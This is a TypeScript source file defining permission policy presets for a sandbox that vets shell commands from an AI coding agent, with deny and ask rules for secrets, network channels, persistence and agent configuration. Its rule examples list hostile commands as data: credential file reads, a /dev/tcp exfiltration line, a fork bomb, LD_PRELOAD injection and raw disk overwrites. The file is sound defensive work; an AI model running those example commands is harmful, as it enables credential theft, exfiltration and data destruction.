import { INHERITED_PATH_PATTERNS, SECRET_PATH_PATTERNS } from './protected-paths.ts';
import type { PresetName } from './schema.ts';

/** A YAML flow sequence of the given strings (JSON is valid YAML). */
const yamlList = (items: readonly string[]): string => JSON.stringify(items);

/**
 * Shared by the presets that protect anything: secrets, exfiltration channels, persistence and the
 * agent's own configuration. Paths are canonical: `./x` in the workspace, `~/x` home, `/x` elsewhere.
 */
const PROTECTIONS = `
  - id: secrets
    effect: read
    paths: &secret-paths ${yamlList(SECRET_PATH_PATTERNS)}
    decision: deny
    reason: this is a credential or secret store; commands may not read or change it. Work without it or ask the user to provide the value you need.
    examples:
      match: ["cat ~/.ssh/id_ed25519", "base64 ~/.aws/credentials", "head -c 30 .env", "tr a b < /proc/self/environ", "n=1; cat \\"$HOME/.ssh/id_rsa\\""]
      not_match: ["cat .env.example", "cat README.md", "ls ~/.sshd_notes", "grep -r TODO .", "cp .env.example .env.test"]
  - id: secrets-write
    effect: [write, delete]
    paths: *secret-paths
    decision: ask
    reason: this changes a credential or secret file; a person must approve it.
  - id: whole-environment
    effect: env-read
    names: ["(all)"]
    where: given-secret
    decision: ask
    reason: this prints every environment variable at once, and this session was given secret variables; a person must approve it. Read the specific variable you need instead, such as $PATH or $NODE_ENV.
  - id: whole-environment-unsandboxed
    effect: env-read
    names: ["(all)"]
    where: unsandboxed
    decision: ask
    reason: this prints every environment variable at once, tokens and keys included; a person must approve it. Read the specific variable you need instead, such as $PATH or $NODE_ENV.
  - id: secret-variables
    effect: env-read
    names: ["*TOKEN*", "*SECRET*", "*PASSWORD*", "*PASSWD*", "*_KEY", "*_KEY_*", "*APIKEY*", "*CREDENTIAL*", "AWS_*", "*_PAT"]
    where: not-given-secret
    decision: deny
    reason: this reads a secret from the environment (a token, key or password) that this session was not given. Commands may not read credentials; use the non-secret variable you need.
    examples:
      match: ["echo $GITHUB_TOKEN", "printenv AWS_SECRET_ACCESS_KEY", 'curl -H "Authorization: $API_KEY" x']
      not_match: ["echo $PATH", "echo $HOME"]
  - id: session-secrets
    effect: [read, env-read]
    where: given-secret
    decision: ask
    reason: this reads a secret this session was given (a secret file copied in or a secret variable); a person must approve showing it.
  - id: secret-cli
    match: ["gh auth token", "gh auth status --show-token", "aws configure get", "aws sts get-session-token", "gcloud auth print-access-token", "gcloud auth print-identity-token", "az account get-access-token", "npm token", "op read", "pass show", "security find-generic-password", "vault read", "kubectl config view --raw"]
    decision: deny
    reason: this prints a credential. Commands may not read credentials.
  - id: raw-sockets
    effect: [read, write]
    paths: ["/dev/tcp/**", "/dev/udp/**"]
    decision: deny
    reason: bash /dev/tcp and /dev/udp open raw network connections, a classic exfiltration and reverse-shell channel. Use a normal tool the policy can judge, if network access is needed at all.
    examples:
      match: ["cat x > /dev/tcp/203.0.113.7/443", "exec 3<>/dev/tcp/h/80"]
  - id: raw-devices
    effect: [write, delete]
    paths: ["/dev/{sd,hd,vd,xvd,nvme,mmcblk,loop,dm-,md}*", "/dev/disk/**", "/dev/mapper/**", "/dev/{mem,kmem,port}"]
    decision: deny
    reason: this writes a raw disk or memory device; it is never allowed. Write files instead.
    examples:
      match: ["dd if=x.img of=/dev/sda", "cat x > /dev/nvme0n1"]
      not_match: ["dd if=/dev/zero of=blank.img bs=1M count=1"]
  - id: persistence
    effect: [write, delete]
    paths:
      - "~/.{bashrc,bash_profile,bash_login,bash_logout,profile,zshrc,zprofile,zshenv,zlogin,inputrc,gitconfig,vimrc,tmux.conf,xinitrc,xprofile,pam_environment}"
      - "~/.config/{systemd,autostart,fish,git,environment.d,nvim,Code/User}/**"
      - "~/.local/bin/**"
      - "~/.local/share/systemd/**"
      - "~/bin/**"
      - "~/.ssh/**"
      - "/etc/**"
      - "/var/spool/cron/**"
      - "/usr/**"
      - "/bin/**"
      - "/sbin/**"
      - "/lib/**"
      - "**/.git/hooks/**"
    decision: deny
    reason: this changes shell start-up files, git hooks or program directories, which makes later commands (or a person's, after the workspace is copied back) run something else. Keep changes to the project's own files.
    examples:
      match: ["echo x >> ~/.bashrc", "install -m 0755 p.sh ~/.local/bin/git", "sort -uo ~/.bashrc x", "tee -a ~/.profile", "cp x .Git/hooks/pre-commit"]
      not_match: ["echo x >> notes.txt"]
  - id: persistent-shell-state
    effect: state-change
    names: ["alias", "unalias", "function *", "trap", "hash", "enable", "bind", "complete", "crontab", "exec (persistent redirections)", "coproc"]
    decision: deny
    reason: this changes what later commands in this shell do (aliases, functions named like a program, recursive functions, traps, hashed paths, cron jobs, open descriptors), so the policy would judge one command and another would run. Run the commands you need directly instead.
    examples:
      match: ["alias ls='rm -rf x'", "trap 'echo' EXIT", "git() { ls; }", ":(){ :|:& };:", "hash -p /bin/sh git", "crontab -"]
      not_match: ["ls", "hash -r", 'show() { echo "$1"; }; show a']
  - id: loader-variables
    effect: env-change
    names: ["LD_*", "DYLD_*", "PROMPT_COMMAND", "PS0", "PS1", "PS2", "PS4", "BASH_ENV", "ENV", "SHELLOPTS", "BASHOPTS", "BASH_FUNC_*", "PYTHONSTARTUP", "PERL5OPT", "RUBYOPT", "LESSOPEN", "LESSCLOSE", "*ASKPASS", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_EXEC_PATH", "GIT_CONFIG_*", "GIT_EXTERNAL_DIFF", "GIT_PROXY_COMMAND"]
    decision: deny
    reason: this variable makes programs preload or run other code (shared libraries, shell start-up files, ssh or proxy commands) behind the command the policy judges. Leave it unset.
    examples:
      match: ["LD_PRELOAD=/tmp/x.so ls", "export BASH_ENV=x", "GIT_SSH_COMMAND=x git fetch"]
      not_match: ["CI=1 npm test", "NODE_ENV=test npm test", "GIT_PAGER=cat git log", "while IFS= read -r l; do echo $l; done < f"]
  - id: name-resolution
    effect: env-change
    names: ["PATH", "HOME", "IFS", "CDPATH", "GLOBIGNORE"]
    decision: ask
    reason: this changes which program a name runs, what ~ means or how words split, so the policy's view of later commands may be wrong; a person must approve it. Call programs by their path instead.
    examples:
      match: ["PATH=./bin:$PATH npm test", "IFS=: ; echo $x"]
      not_match: ["while IFS= read -r l; do echo $l; done < f"]
  - id: agent-config
    effect: [write, delete]
    paths:
      - "**/.claude/**"
      - "**/CLAUDE.md"
      - "**/AGENTS.md"
      - "**/GEMINI.md"
      - "**/.vscode/{settings,tasks,launch,mcp}.json"
      - "**/.cursor/**"
      - "**/.cursorrules"
      - "**/.gemini/**"
      - "**/.codex/**"
      - "**/.aider.conf.yml"
      - "**/.continue/**"
      - "**/.windsurfrules"
      - "**/.mcp.json"
      - "**/.github/copilot-instructions.md"
      - "**/.idea/**"
    decision: deny
    reason: this is an AI agent's or editor's own configuration (permissions, hooks, auto-approval), which a person inherits when the workspace is copied back. The agent may not change it; ask the user to.
    examples:
      match: ["cat p > .vscode/settings.json", "cd .claude && echo x > settings.json", "printf x > ./docs/../.vscode/settings.json", "cat p > .VSCODE/settings.json"]
      not_match: ["cat .vscode/extensions.json"]
  - id: inherited-build-files
    effect: [write, delete]
    paths: ${yamlList(INHERITED_PATH_PATTERNS)}
    decision: ask
    reason: this changes what build, test or CI commands run (scripts, hooks, test configuration, workflows); a person inherits it when the workspace is copied back, so a person should see this edit.
    examples:
      match: ["echo '{}' > package.json", "printf x > conftest.py", "echo x >> .github/workflows/ci.yml"]
      not_match: ["echo x > src/app.ts"]
  - id: workspace-root-and-history
    effect: [write, delete]
    paths: [".", "./.git", "./.git/**"]
    decision: ask
    reason: this deletes or rewrites the whole workspace or its git history, which may exist nowhere else; a person must approve it.
    examples:
      match: ["rm -rf .git", "find . -delete"]
      not_match: ["rm -rf dist"]
  - id: outside-writable
    effect: [write, delete]
    where: [sandboxed, outside-writable]
    decision: deny
    reason: this changes files outside the workspace and /tmp, the sandbox's only writable directories; everything else is read-only there, so it cannot work. Write inside the workspace or /tmp instead.
    examples:
      match: ["rm -rf /home", "touch /opt/x"]
      not_match: ["rm -rf /tmp/build", "rm -rf dist"]
  - id: outside-workspace-unsandboxed
    effect: [write, delete]
    where: [unsandboxed, outside-writable]
    decision: ask
    reason: this changes files outside the project, and nothing contains this command; a person must approve it.
`;

/**
 * When nothing contains the commands (`driver: none`, e.g. an agent's hook on a laptop), only known
 * commands run unasked, and code, installs and changes of shell behaviour go to a person.
 */
const UNSANDBOXED = `
  - id: file-tools
    match:
      - "{cat,head,tail,less,more,wc,nl,od,xxd,hexdump,strings,file,stat,du,df,ls,tree,realpath,readlink}"
      - "{diff,cmp,comm,cut,paste,join,fold,fmt,column,rev,tac,sort,uniq,tr,grep,egrep,fgrep,rg,ag,ack,fd,fdfind,find,jq,yq,awk,gawk,sed}"
      - "{base64,md5sum,sha1sum,sha256sum,sha512sum,cksum,echo,printf,true,false,test,[,:,pwd,basename,dirname,date,seq,sleep}"
      - "{which,type,whoami,id,uname,nproc,expr,cd,pushd,popd,tee,bat,batcat,numfmt,shuf,expand,unexpand,mkdir,touch,cp,mv,rm,rmdir,ln}"
      - "{tar,zip,unzip,gzip,gunzip,zcat,xz,unxz,bzip2,chmod,split,patch,cmp,tokei,cloc,exit,return,break,continue,set,shopt,read,command,type,hash,bc,jobs,wait,mapfile,readarray,getopts,export,unset,declare,local}"
    decision: allow
    reason: reading, searching and editing files; what they touch is judged by the path rules.
    examples:
      match: ["ls -la src/", "command ls", "/bin/rm -rf dist"]
      not_match: ["./rm x", "curl https://example.com"]
  - id: build-and-test
    match:
      - "{npm,pnpm,yarn,bun} {test,t,run,run-script,ls,list,why,explain,--version,-v,help,outdated,audit}"
      - "pnpm {-r,--recursive} {test,run,exec}"
      - "pnpm exec"
      - "yarn {build,lint,test,typecheck,format,dev,start}"
      - "npx {tsc,prettier,eslint,jest,vitest,mocha,ts-node,tsx,playwright,biome,turbo,nx,next,vite,webpack,rollup,esbuild,stylelint,c8,nyc,knip,depcheck,tsup,changeset}"
      - "{tsc,prettier,eslint,jest,vitest,mocha,tsx,biome,turbo,vite,webpack}"
      - "{make,gmake,cmake,ctest,ninja,meson,bazel,./gradlew,gradle,mvn,./mvnw,ant,just,task}"
      - "cargo {build,b,test,t,check,c,clippy,fmt,run,r,bench,doc,tree,metadata,--version,-V,nextest,llvm-cov,hack,insta,miri}"
      - "go {build,test,vet,fmt,run,version,env,list,doc,generate,tool}"
      - "{gofmt,goimports,golangci-lint,staticcheck,rustc,rustfmt,clippy-driver}"
      - "{pytest,py.test,mypy,ruff,black,isort,flake8,pylint,pyright,tox,nox,coverage,bandit}"
      - "{python,python3} -m {pytest,unittest,mypy,ruff,black,isort,flake8,pylint,coverage,doctest,compileall,py_compile,json.tool,venv}"
      - "{python,python3,node,ruby,perl,go,rustc,cargo,java,javac,dotnet,deno,bun,php,lua,gcc,cc,clang,rustup} {--version,-V,-v,version}"
      - "{pip,pip3} {list,show,freeze,check,--version,-V}"
      - "dotnet {build,test,format,--version}"
      - "{node,python,python3} --check"
    decision: allow
    reason: building, testing and linting in the project.
    examples:
      match: ["npm test", "timeout 120 npm test", "pnpm -r test", "npx tsc --noEmit", "python3 -m pytest -q", "cargo test"]
      not_match: ["npm install left-pad", "npx -y cowsay", "python3 -m http.server"]
  - id: git-local
    match:
      - "git {status,log,show,diff,blame,branch,rev-parse,describe,shortlog,ls-files,ls-tree,cat-file,grep,reflog,tag,add,commit,checkout,switch,mv,rm,init,merge-base,rev-list,for-each-ref,name-rev,worktree,stash,merge,cherry-pick,revert,restore,apply,am,format-patch,notes,show-ref,count-objects,fsck,whatchanged,range-diff,diff-tree,diff-files,diff-index,var,check-ignore,check-attr,--version,version,help}"
      - "git config {--get,--get-all,--get-regexp,-l,--list,get,list}"
      - "git remote {-v,show,get-url}"
      - "git remote"
    decision: allow
    reason: local git work in the project.
    examples:
      match: ["git status", "git -C sub status", "git --no-pager log -1", "git diff --stat HEAD~3..HEAD", "git --version"]
      not_match: ["git push", "git reset --hard HEAD~2"]
  - id: workspace-read
    effect: read
    paths: [".", "./**", "/dev/null", "/dev/fd/*", "/dev/stdin", "/usr/**", "/opt/**", "/tmp/**", "/etc/os-release", "/etc/hosts", "/proc/cpuinfo", "/proc/meminfo"]
    decision: allow
    reason: reading project files and system libraries.
  - id: workspace-write
    effect: [write, delete]
    where: writable
    decision: allow
    reason: changing project files.
  - id: output-devices
    effect: write
    paths: ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/*"]
    decision: allow
    reason: discarding or redirecting output.
  - id: assignments
    effect: env-change
    decision: allow
    reason: setting an ordinary variable (names that change how programs load code are refused separately).
  - id: environment-reads
    effect: env-read
    decision: allow
    reason: reading an ordinary variable.
  - id: installs-unsandboxed
    match:
      - "{npm,pnpm,yarn,bun} {install,i,in,add,ci,update,up,upgrade,dlx,create,init,exec,x,link,rebuild,global}"
      - "{pip,pip3,pipx,uv,poetry,pipenv,conda,mamba} {install,add,sync,download,wheel,run,tool}"
      - "{python,python3} -m pip"
      - "cargo {install,add,update}"
      - "go {get,install}"
      - "{gem,bundle,brew,apt,apt-get,dnf,yum,apk,pacman,snap,flatpak,nix,nix-env} *"
      - "npx {-y,--yes,-p,--package}"
    where: unsandboxed
    decision: ask
    reason: package installs fetch code from a registry and run its install scripts on this machine; a person must approve them.
  - id: code-unsandboxed
    effect: code
    where: unsandboxed
    decision: ask
    reason: this runs program text (inline code, a script file, a pipe into an interpreter) and nothing contains it; a person must approve it. Prefer the project's own test or build commands.
  - id: shell-state-unsandboxed
    effect: state-change
    where: unsandboxed
    decision: ask
    reason: this changes the state of the shell that later commands run in; a person must approve it.
  - id: command-variables-unsandboxed
    effect: env-change
    names: ["*PAGER", "GIT_*", "EDITOR", "VISUAL", "BROWSER", "NODE_OPTIONS", "PYTHONPATH", "PERL5LIB", "MAKEFLAGS", "TMPDIR", "SHELL", "*_proxy", "*_PROXY"]
    where: unsandboxed
    decision: ask
    reason: this variable changes which programs run or how they load code (pagers, editors, search paths), and nothing contains them; a person must approve it.
  - id: processes-unsandboxed
    match: ["{kill,pkill,killall}"]
    where: unsandboxed
    decision: ask
    reason: this signals processes outside the command; a person must approve it.
`;

const CODING_AGENT = `
default: ask
rules:
${PROTECTIONS}
  - id: inside-the-sandbox
    effect: [exec, code, env-change, env-read, state-change, read]
    where: sandboxed
    decision: allow
    reason: running programs and code, reading files and setting variables inside the sandbox stays inside it.
    examples:
      match: ["python3 script.py", "./a.out", "ps aux", "ls /", "export X=1"]
  - id: writes-inside
    effect: [write, delete]
    where: writable
    decision: allow
    reason: changing files in the session's writable directories (the workspace and /tmp).
    examples:
      match: ["seq 3 > /tmp/x", "rm -rf dist", "tar xf a.tar"]
  - id: loopback
    effect: net
    where: loopback
    decision: allow
    reason: traffic on the sandbox's own loopback stays inside it.
    examples:
      match: ["curl localhost:8000", "curl -s http://127.0.0.1:8080/health"]
  - id: network-granted
    effect: net
    where: granted
    decision: allow
    reason: this session may reach this host.
  - id: network-grantable
    effect: net
    where: grantable
    decision: ask
    reason: this reaches a host this session may not reach yet; a person can grant it for this session.
  - id: no-network
    effect: net
    where: unreachable
    decision: deny
    reason: this session has no network access beyond its own loopback and the hosts it was granted, and nobody can grant more here, so this cannot work. Work offline (files already in the workspace, vendored dependencies, a server started inside the sandbox on localhost), or ask the user for a session with network access to this host.
    examples:
      match: ["curl https://api.example.test/x", "git fetch", "pip install requests"]
  - id: publishes
    match:
      - "git push"
      - "git send-email"
      - "git remote {add,set-url,remove,rm,rename}"
      - "{npm,pnpm,yarn} publish"
      - "cargo publish"
      - "gh {gist,release,repo,pr,issue,api,secret,ssh-key,gpg-key,workflow,run}"
      - "twine upload"
      - "docker push"
    decision: ask
    reason: this publishes data or code outside the sandbox; a person must approve it.
    examples:
      match: ["git push origin +main", "gh gist create --public notes.md"]
  - id: git-discards-work
    match:
      - "git reset --hard"
      - "git reset --merge"
      - "git checkout --"
      - "git checkout ."
      - "git checkout -f"
      - "git restore"
      - "git clean"
      - "git stash {drop,clear}"
      - "git branch {-D,--delete}"
      - "git rebase"
      - "git filter-branch"
      - "git filter-repo"
      - "git update-ref -d"
      - "git reflog {expire,delete}"
      - "git gc"
      - "git prune"
      - "git worktree remove"
    decision: ask
    reason: this discards or rewrites work that may exist nowhere else (a person inherits it when the workspace is copied back); a person must approve it.
    examples:
      match: ["git reset --hard HEAD~20", "git clean -f -d -x", "git checkout -- src/a.ts"]
      not_match: ["git checkout -b feature/x", "git reset", "git branch -d merged"]
  - id: git-config-change
    effect: state-change
    names: ["git config *"]
    decision: ask
    reason: this changes the repository's git configuration, which a person inherits when the workspace is copied back; a person must approve it.
  - id: privilege
    match: ["{sudo,su,doas,pkexec,chroot,mount,umount,nsenter,unshare,setcap,chown,insmod,modprobe,sysctl,iptables,systemctl,service,shutdown,reboot,useradd,usermod,userdel,groupadd,chsh,passwd}"]
    decision: ask
    reason: this needs privileges or changes the system; a person must approve it.
${UNSANDBOXED}
`;

const READONLY = `
default: ask
rules:
${PROTECTIONS}
  - id: read-tools
    match:
      - "{cat,head,tail,less,more,wc,nl,od,xxd,hexdump,strings,file,stat,du,df,ls,tree,realpath,readlink}"
      - "{diff,cmp,comm,cut,paste,join,fold,fmt,column,rev,tac,sort,uniq,tr,grep,egrep,fgrep,rg,ag,ack,fd,find,jq,yq,awk,sed}"
      - "{md5sum,sha1sum,sha256sum,cksum,echo,printf,true,false,test,[,pwd,basename,dirname,date,seq,which,type,whoami,id,uname,nproc,cd}"
      - "git {status,log,show,diff,blame,branch,rev-parse,describe,shortlog,ls-files,ls-tree,cat-file,grep,reflog,tag,--version}"
    decision: allow
    reason: reading and searching files.
  - id: no-writes
    effect: [write, delete]
    paths: ["**"]
    except: ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/*"]
    decision: deny
    reason: this policy is read-only; commands may not create, change or delete files.
    examples:
      match: ["echo x > a.txt", "rm a.txt", "sed -i s/a/b/ f"]
      not_match: ["grep x f 2>/dev/null"]
  - id: output-devices
    effect: write
    paths: ["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/*"]
    decision: allow
    reason: discarding or redirecting output.
  - id: no-network
    effect: net
    decision: deny
    reason: this policy is read-only and has no network access.
  - id: no-code
    effect: code
    decision: deny
    reason: this policy does not run programs given as text or script files.
  - id: no-state
    effect: state-change
    decision: deny
    reason: this policy does not change shell state.
  - id: reads
    effect: read
    paths: [".", "./**", "/dev/null", "/dev/fd/*", "/usr/**"]
    decision: allow
    reason: reading project files.
  - id: variables
    effect: [env-read, env-change]
    decision: allow
    reason: ordinary variables.
`;

/** Allows everything, including what cannot be judged. For testing the sandbox alone. */
const PERMISSIVE = `
default: allow
dangerouslyAllowUnjudged: true
rules: []
`;

export const PRESETS: Readonly<Record<PresetName, string>> = Object.freeze({
  readonly: READONLY,
  'coding-agent': CODING_AGENT,
  permissive: PERMISSIVE,
});
